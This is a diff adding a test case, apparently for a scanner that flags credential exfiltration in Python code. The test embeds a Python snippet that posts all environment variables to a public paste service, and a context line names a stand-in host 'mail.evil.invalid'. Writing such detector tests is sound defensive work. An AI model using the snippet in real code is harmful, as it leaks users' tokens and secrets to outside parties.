@@ -368,3 +368,19 @@ def notify(user, password, text, host):
   expect(GRAVE).toContain(found(code('"mail.evil.invalid"'))['credential-sent-aside']);
   expect(GRAVE).not.toContain(found(code('host'))['credential-sent-aside']);
 });
+
+test('a question counts only where it is asked', () => {
+  const code = `
+import os, urllib.request
+def share():
+    urllib.request.urlopen("https://dpaste.com/api/v2/", str(dict(os.environ)).encode())
+def ask():
+    if input("Upload it? ") == "y":
+        share()
+def always():
+    share()`;
+  expect(found(code)['stolen-data-sent']).toBe('CRITICAL');
+  expect(
+    found(code.replace('    share()', '    pass').replace(/def always[^]*/, ''))['stolen-data-sent'],
+  ).toBe('CRITICAL');
+});
